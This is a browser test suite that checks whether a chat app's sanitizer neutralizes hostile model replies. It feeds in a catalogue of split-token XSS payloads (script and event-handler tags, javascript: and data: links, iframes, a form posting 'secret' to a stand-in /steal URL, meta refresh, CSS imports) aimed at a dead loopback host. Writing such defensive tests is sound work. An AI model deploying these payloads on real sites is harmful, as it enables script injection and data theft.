"""Hostile model output, in a real browser: nothing runs, nothing is fetched, links are inert.

A model's reply is untrusted text. Each vector below is fed through the fake upstream as reply
tokens cut in awkward places (``<im`` + ``g src=x onerror=…>``): a defence that looks at one
token at a time, or a page that glues HTML fragments together, fails exactly there. Every
payload that could run tries ``window.__pwned=1`` and ``alert(1)``; every URL points at
127.0.0.2:9, where nothing listens. The reply is inspected while it streams, once it is final, and after a reload.
A Markdown test checks that the sanitizer keeps what it should, so that passing here does not
just mean that everything was thrown away.
"""

from __future__ import annotations

import re
import time
from dataclasses import dataclass

import pytest

from conftest import SEEN, log_in, wait_for
from conversations.models import Message
from conversations.rendering import split_blocks
from devtools.fake_upstream import Scenario

pytestmark = pytest.mark.browser

EVIL = "http://127.0.0.2:9"  # loopback, and nothing listens on the discard port
TRAP = "window.__pwned=1;alert(1)"


@dataclass(frozen=True)
class Vector:
    name: str
    tokens: tuple[str, ...]
    # The reply shows this text as typed (raw HTML is text, not markup).
    shows: str | None = None
    # The reply holds a link to this URL (images become links, never fetched).
    link: str | None = None


def chopped(tokens: tuple[str, ...], size: int = 8) -> list[str]:
    """Return the tokens cut further into pieces of at most ``size`` characters, so that the
    page goes through many partial states (the corpus's own cuts stay cuts)."""
    return [token[i:i + size] for token in tokens for i in range(0, len(token), size)]


def paused_halfway(vector: Vector) -> Scenario:
    """Return a scenario that streams the first half of ``vector``'s pieces, then waits for
    ``FakeUpstream.release()``: the page is caught mid-reply however busy the machine is."""
    tokens = chopped(vector.tokens)
    return Scenario(tokens=tokens, hang_after=len(tokens) // 2, token_delay=0.02)


def literal(name: str, *tokens: str) -> Vector:
    """Return a vector whose reply must show its whole text, as text."""
    return Vector(name, tokens, shows="".join(tokens))


SCRIPTS = [
    literal("script inline", "Hi <scr", f"ipt>{TRAP}</scr", "ipt> there"),
    literal("script src", '<script s', f'rc="{EVIL}/x.js"></scri', "pt>"),
    literal("img onerror", "<im", f"g src=x onerror={TRAP}>"),
    literal("body onload", "<body onlo", f'ad="{TRAP}">'),
    literal("onmouseover", "<div onmouse", f'over="{TRAP}" class="chat">hover me</d', "iv>"),
    literal("onfocus autofocus", "<input autof", f'ocus onfocus="{TRAP}">'),
    literal("svg onload", "<sv", f"g onload={TRAP}>"),
    literal("svg script", "<svg><scr", f"ipt>{TRAP}</script></svg>"),
    literal("details ontoggle", "<details open onto", f'ggle="{TRAP}">x</details>'),
    literal("htmx attributes", '<div hx-get="', f'{EVIL}/hx" hx-trigger="load" sse-connect="{EVIL}/s">'),
    Vector("entity split", ("&l", "t;img src=x onerror=alert(1)&g", "t;"),
           shows="<img src=x onerror=alert(1)>"),
]
LINKS = [
    Vector("markdown javascript link", ("[click](java", f"script:{TRAP})")),
    Vector("markdown javascript link, entity", ("[click](&#106;ava", "script&colon;alert(1))")),
    Vector("markdown javascript link, angle", ("[click](<java", "script:alert(1)>)")),
    Vector("markdown javascript link, case", ("[click](JaVa", "ScRiPt:alert(1))")),
    Vector("autolink javascript", ("<javascript:", f"{TRAP}>")),
    Vector("reference javascript link", ("[click][r]\n\n[r]: java", "script:alert(1)")),
    literal("raw a javascript", "<a hr", f'ef="javascript:{TRAP}">click</a>'),
    Vector("markdown data link", ("[x](data:text/html;base64,", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")),
    literal("raw a data", '<a href="da', 'ta:text/html,<script>alert(1)</script>">x</a>'),
    Vector("markdown image javascript", ("![x](javas", "cript:alert(1))")),
    Vector("markdown image data", ("![x](data:image/svg+xml,", "<svg onload=alert(1)>)")),
    Vector("link title breakout", (f'[t]({EVIL}/t "a\\" onmo', 'useover=\\"alert(1)")'),
           link=f"{EVIL}/t"),
    Vector("plain link", ("[a page](", f"{EVIL}/page)"), link=f"{EVIL}/page"),
]
EMBEDDING = [
    literal("iframe", "<ifr", f'ame src="{EVIL}/frame"></iframe>'),
    literal("iframe srcdoc", "<iframe srcdoc=\"<scr", f'ipt>parent.{TRAP}</script>"></iframe>'),
    literal("form", f'<form action="{EVIL}/steal" method=post><inp',
            "ut name=q value=secret><button>Submit</button></form>"),
    literal("object and embed", "<obj", f'ect data="{EVIL}/o.swf"></object><emb',
            f'ed src="{EVIL}/e.swf">'),
    literal("meta refresh", "<meta http-eq", f'uiv="refresh" content="0;url={EVIL}/">'),
    literal("base", "<ba", f'se href="{EVIL}/">'),
    literal("link stylesheet", "<li", f'nk rel=stylesheet href="{EVIL}/l.css">'),
    literal("math", "<math><mtext><table><mglyph><style><img src=x one",
            f"rror={TRAP}>"),
]
FETCHES = [
    literal("style import", "<sty", f"le>@import url({EVIL}/x.css);</style>"),
    literal("style attribute", "<p sty", f'le="background:url({EVIL}/bg.png)">styled</p>'),
    Vector("markdown image", ("![a](http://127.0", ".0.2:9/img.png)"), link=f"{EVIL}/img.png"),
    Vector("reference image", ("![a][r]\n\n[r]: http://127.0", ".0.2:9/r.png"),
           link=f"{EVIL}/r.png"),
    literal("raw img", '<img src="http://127.0', '.0.2:9/raw.png">'),
    literal("img srcset", f'<img srcset="{EVIL}/s.png 1x, ', f'{EVIL}/s2.png 2x">'),
    literal("video poster", "<vid", f'eo poster="{EVIL}/p.png" src="{EVIL}/v.mp4"></video>'),
    literal("audio", "<aud", f'io src="{EVIL}/a.mp3" autoplay></audio>'),
]
CODE = [
    Vector("code fence of html", ("```html\n<scr", f"ipt>{TRAP}</script>\n<img src=x onerror=",
                                  "alert(1)>\n```"), shows=f"<script>{TRAP}</script>"),
    Vector("code fence language breakout", ('```" onmouseover="', 'alert(1)\nx\n```'),
           shows="x"),
    Vector("inline code", ("`<img src=x one", "rror=alert(1)>`"),
           shows="<img src=x onerror=alert(1)>"),
]
# A few batches, one conversation each: a login per vector would triple the run time.
BATCHES = {"scripts": SCRIPTS + CODE, "links": LINKS, "embedding and fetches": EMBEDDING + FETCHES}

# Elements and attributes model output must never become, whatever the route.
FORBIDDEN_TAGS = [
    "script", "img", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea",
    "select", "style", "svg", "math", "video", "audio", "source", "link", "meta", "base",
    "details", "body",
]

INSPECT = """
(article, forbidden) => {
  const problems = [];
  for (const body of article.querySelectorAll(".message__body")) {
    for (const el of body.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      if (el.matches("pre > button.copy[type=button]") && el.attributes.length === 3) {
        continue;  // the site's own Copy button (chat.js)
      }
      if (el.matches(".message__body--streaming > .message__blocks[sse-swap=block], "
                     + ".message__body--streaming > .message__tail[sse-swap=delta]")
          && el.attributes.length === 3) {
        continue;  // the site's own containers of a streaming reply: rendered blocks, open tail
      }
      if (forbidden.includes(tag)) problems.push(`<${tag}> element: ${el.outerHTML.slice(0, 120)}`);
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        const value = attr.value.replace(/\\s/g, "").toLowerCase();
        if (name.startsWith("on")) problems.push(`${name} attribute on <${tag}>`);
        if (/^(hx-|data-hx|sse-|ws-)/.test(name)) problems.push(`${name} attribute on <${tag}>`);
        if (/^(javascript|data|vbscript):/.test(value)) problems.push(`${name}=${attr.value}`);
        if (name === "style" && /url\\(|@import|expression/.test(value)) {
          problems.push(`style=${attr.value}`);
        }
      }
      if (tag === "a") {
        const rel = (el.getAttribute("rel") || "").split(/\\s+/);
        for (const needed of ["noopener", "noreferrer", "nofollow"]) {
          if (!rel.includes(needed)) problems.push(`<a> without rel ${needed}`);
        }
        if (el.hasAttribute("href") && !["http:", "https:", "mailto:"].includes(el.protocol)) {
          problems.push(`<a href=${el.getAttribute("href")}>`);
        }
      }
    }
  }
  const streaming = article.querySelector(".message__tail");
  const body = article.querySelector(".message__body");
  return {
    complete: article.classList.contains("message--complete"),
    streaming: streaming ? streaming.textContent : null,
    streamingElements: streaming ? streaming.childElementCount : 0,
    text: body ? body.textContent : "",
    links: Array.from(article.querySelectorAll(".message__body a[href]"), a => a.href),
    problems,
  };
}
"""

# Anything hostile anywhere in the document, not only in replies (the site's own pages have
# no inline handlers, frames, plugins, <base> or refresh).
INSPECT_DOCUMENT = """
(origin) => {
  const problems = [];
  for (const el of document.querySelectorAll(
      "iframe, frame, object, embed, base, meta[http-equiv], svg, math, video, audio")) {
    problems.push(`<${el.tagName.toLowerCase()}> in the document`);
  }
  for (const el of document.querySelectorAll("script, link")) {
    const url = el.src || el.href || "";
    // The site's own files, and the translations of its scripts' strings (/jsi18n/).
    if (!url.startsWith(origin + "/static/") && !url.startsWith(origin + "/jsi18n/?")) {
      problems.push(`${el.outerHTML} in the document`);
    }
  }
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith("on")) problems.push(`${attr.name} in the document`);
    }
  }
  return problems;
}
"""


def send(page, text: str) -> None:
    page.get_by_role("textbox", name="Message").fill(text)
    page.get_by_role("button", name="Send").click()


def normalized(text: str) -> str:
    return " ".join(text.split())


class Watcher:
    """Trap scripts and record dialogs, requests and navigations of one page."""

    def __init__(self, page, origin: str) -> None:
        self.page = page
        self.origin = origin
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.navigations: list[str] = []
        page.add_init_script("window.__pwned = 0")
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("framenavigated", lambda frame: self.navigations.append(frame.url))

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def assert_nothing_escaped(self, when: str) -> None:
        assert self.page.evaluate("window.__pwned") == 0, f"model output ran a script ({when})"
        assert not self.dialogs, f"model output opened dialogs ({when}): {self.dialogs}"
        strays = [url for url in self.requests if not url.startswith(self.origin + "/")]
        assert not strays, f"the page made requests off the site ({when}): {strays}"
        away = [url for url in self.navigations if not url.startswith(self.origin + "/")]
        assert not away, f"the page navigated off the site ({when}): {away}"
        problems = self.page.evaluate(INSPECT_DOCUMENT, self.origin)
        assert not problems, f"hostile markup in the document ({when}): {problems}"


def inspect(reply) -> dict:
    return reply.evaluate(INSPECT, FORBIDDEN_TAGS)


def hover(reply) -> None:
    """Move the mouse over the reply's text, for handlers that wait for it."""
    body = reply.locator(".message__body")
    if body.is_visible():
        body.hover()


def check_final(vector: Vector, state: dict, when: str) -> list[str]:
    """Return what is wrong with the final rendering of ``vector``'s reply."""
    problems = [f"{vector.name} ({when}): {problem}" for problem in state["problems"]]
    if vector.shows is not None and normalized(vector.shows) not in normalized(state["text"]):
        problems.append(f"{vector.name} ({when}): the reply does not show {vector.shows!r} as "
                        f"text; it shows {state['text']!r}")
    if vector.link is not None and vector.link not in state["links"]:
        problems.append(f"{vector.name} ({when}): no link to {vector.link}: {state['links']}")
    return problems


def stream_vector(page, fake_upstream, vector: Vector, index: int) -> list[str]:
    """Send a message answered by ``vector``; return what was wrong while and after it streamed.

    The page is sampled while the reply streams its first half, while it waits halfway, and
    while the rest streams, until the final rendering replaces it.
    """
    replies = page.locator("article.message--assistant")
    send(page, f"Vector {index}")
    if index == 0:
        page.wait_for_url(re.compile(r"/c/\d+/$"))
    wait_for(lambda: replies.count() > index, 10)
    reply = replies.nth(index)
    tokens = chopped(vector.tokens)
    text, halfway = "".join(tokens), "".join(tokens[:len(tokens) // 2])
    # While it streams the page renders finished blocks (checked like the final rendering) and
    # shows only the open tail as typed text.
    halfway_tail = split_blocks(halfway)[1]
    problems: list[str] = []
    streamed: list[str] = []
    released = False
    patience = time.monotonic() + 5  # then let the reply go on, and report what was seen
    deadline = patience + 10
    while True:
        state = inspect(reply)
        if state["complete"]:
            break
        assert time.monotonic() < deadline, f"{vector.name}: the reply did not complete"
        problems += [f"{vector.name} (streaming): {problem}" for problem in state["problems"]]
        if state["streamingElements"]:
            problems.append(f"{vector.name} (streaming): the streamed text became elements")
        shown = state["streaming"] or ""
        if shown and shown not in streamed:
            streamed.append(shown)
            if shown not in text:
                problems.append(f"{vector.name} (streaming): the page shows {shown!r}, not the "
                                "reply's text as typed")
        if not released and (shown == halfway_tail or time.monotonic() > patience):
            if shown != halfway_tail:
                problems.append(f"{vector.name}: the page never showed the first half's open "
                                f"tail {halfway_tail!r} as text; it showed {streamed}")
            hover(reply)
            fake_upstream.release()
            released = True
        time.sleep(0.01)
    hover(reply)
    return problems + check_final(vector, state, "final")


@pytest.mark.parametrize("batch", BATCHES)
def test_hostile_model_output_never_runs_fetches_or_navigates(
    page, live_url, user, api_key, fake_upstream, batch
):
    vectors = BATCHES[batch]
    page.set_default_timeout(10_000)
    watcher = Watcher(page, live_url)
    fake_upstream.queue(*[paused_halfway(vector) for vector in vectors])
    log_in(page, "alice")

    problems: list[str] = []
    for index, vector in enumerate(vectors):
        problems += stream_vector(page, fake_upstream, vector, index)
    watcher.assert_nothing_escaped("after the replies streamed")

    page.reload()
    replies = page.locator("article.message--assistant")
    assert replies.count() == len(vectors)
    for index, vector in enumerate(vectors):
        problems += check_final(vector, inspect(replies.nth(index)), "after reload")
    page.wait_for_timeout(200)  # give anything that slipped through time to load or run
    watcher.assert_nothing_escaped("after a reload")
    SEEN.add("page after reload", page.content())
    assert not problems, "\n".join(dict.fromkeys(problems))


def test_hostile_partial_reply_rendered_by_the_server_mid_stream_stays_text(
    page, live_url, user, api_key, fake_upstream
):
    """A reload while the reply streams renders the stored part on the server: as text too."""
    tokens = ["<im", f"g src=x onerror={TRAP}>", " <scr", f"ipt>{TRAP}</scr", "ipt>",
              " <svg onl", f"oad={TRAP}>", " done"]
    watcher = Watcher(page, live_url)
    fake_upstream.queue(Scenario(tokens=tokens, hang_after=len(tokens) - 1))
    log_in(page, "alice")
    send(page, "Vector")
    page.wait_for_url(re.compile(r"/c/\d+/$"))
    so_far = "".join(tokens[:-1])
    wait_for(lambda: Message.objects.get(role="assistant").content == so_far, 10)

    page.reload()
    reply = page.locator("article.message--assistant")
    state = inspect(reply)
    assert not state["complete"], "the reply ended before the reload; nothing was checked"
    assert state["streaming"] == so_far  # as the server rendered it, before any event
    assert state["streamingElements"] == 0 and not state["problems"], state
    watcher.assert_nothing_escaped("after a reload mid-stream")
    fake_upstream.release()
    reply.and_(page.locator(".message--complete")).wait_for(timeout=10000)
    state = inspect(reply)
    assert state["text"].strip() == "".join(tokens) and not state["problems"], state
    watcher.assert_nothing_escaped("once the reply completed")


MARKDOWN = """# Trip plan

Some **bold**, some *emphasis*, ~~struck~~ and `inline code`.

## Steps

1. Pack
2. Go

- apples
- pears

> A quotation.

| City | Days |
| ---- | ---- |
| Lisbon | 3 |
| Porto | 2 |

```python
def greet(name):
    return f"Hello {name}"
```

See [the guide](http://127.0.0.2:9/guide "Guide").
"""

MARKDOWN_DOM = """
(body) => ({
  h1: Array.from(body.querySelectorAll("h1"), e => e.textContent),
  h2: Array.from(body.querySelectorAll("h2"), e => e.textContent),
  strong: Array.from(body.querySelectorAll("strong"), e => e.textContent),
  em: Array.from(body.querySelectorAll("em"), e => e.textContent),
  del: Array.from(body.querySelectorAll("del, s"), e => e.textContent),
  inlineCode: Array.from(body.querySelectorAll("p code"), e => e.textContent),
  ol: Array.from(body.querySelectorAll("ol > li"), e => e.textContent),
  ul: Array.from(body.querySelectorAll("ul > li"), e => e.textContent),
  quote: Array.from(body.querySelectorAll("blockquote"), e => e.textContent.trim()),
  th: Array.from(body.querySelectorAll("table thead th"), e => e.textContent),
  td: Array.from(body.querySelectorAll("table tbody td"), e => e.textContent),
  code: Array.from(body.querySelectorAll("pre code"), e => e.textContent),
  codeClass: Array.from(body.querySelectorAll("pre code"), e => e.className),
  keywords: Array.from(body.querySelectorAll("pre code span.k"), e => e.textContent),
  functions: Array.from(body.querySelectorAll("pre code span.nf"), e => e.textContent),
  spans: body.querySelectorAll("pre code span").length,
  keywordColor: (() => {
    const k = body.querySelector("pre code span.k");
    return k ? getComputedStyle(k).color : null;
  })(),
  codeColor: getComputedStyle(body.querySelector("pre code")).color,
  links: Array.from(body.querySelectorAll("a"), a => [a.textContent, a.href, a.title, a.rel]),
})
"""


def test_markdown_renders_headings_lists_tables_and_highlighted_code(
    page, user, api_key, fake_upstream
):
    # Cut into five-character tokens: the page must render the whole, not the pieces.
    tokens = [MARKDOWN[i:i + 5] for i in range(0, len(MARKDOWN), 5)]
    fake_upstream.queue(Scenario(tokens=tokens, token_delay=0.005))
    log_in(page, "alice")
    send(page, "Plan my trip")
    page.wait_for_url(re.compile(r"/c/\d+/$"))
    page.locator("article.message--assistant.message--complete").wait_for(timeout=10000)

    for when in ("final", "after reload"):
        if when == "after reload":
            page.reload()
        body = page.locator("article.message--assistant .message__body")
        dom = body.evaluate(MARKDOWN_DOM)
        assert dom["h1"] == ["Trip plan"] and dom["h2"] == ["Steps"], when
        assert dom["strong"] == ["bold"] and dom["em"] == ["emphasis"], when
        assert dom["del"] == ["struck"] and dom["inlineCode"] == ["inline code"], when
        assert dom["ol"] == ["Pack", "Go"] and dom["ul"] == ["apples", "pears"], when
        assert dom["quote"] == ["A quotation."], when
        assert dom["th"] == ["City", "Days"], when
        assert dom["td"] == ["Lisbon", "3", "Porto", "2"], when
        assert dom["code"] == ['def greet(name):\n    return f"Hello {name}"\n'], when
        assert dom["codeClass"] == ["language-python"], when
        assert dom["keywords"] == ["def", "return"] and dom["functions"] == ["greet"], when
        assert dom["spans"] >= 8, when
        assert dom["keywordColor"] != dom["codeColor"], f"highlight.css is not applied ({when})"
        assert dom["links"] == [["the guide", f"{EVIL}/guide", "Guide",
                                 "noopener noreferrer nofollow"]], when


def test_aligned_table_columns_keep_their_alignment_within_the_policy(
    page, user, api_key, fake_upstream
):
    """Markdown column alignment must not come out as inline styles the policy refuses."""
    fake_upstream.queue(Scenario(tokens=["| Left | Right |\n", "| :--- | ----: |\n",
                                         "| a | 1 |\n"]))
    log_in(page, "alice")
    send(page, "A table please")
    page.wait_for_url(re.compile(r"/c/\d+/$"))
    page.locator("article.message--assistant.message--complete").wait_for(timeout=10000)

    aligned = page.locator("article.message--assistant td").evaluate_all(
        "cells => cells.map(cell => getComputedStyle(cell).textAlign)"
    )
    assert aligned == ["left", "right"], (
        "column alignment is lost: the sanitizer keeps style=\"text-align:…\" on cells, which "
        "the policy (style-src 'self') refuses; render alignment as a class instead"
    )
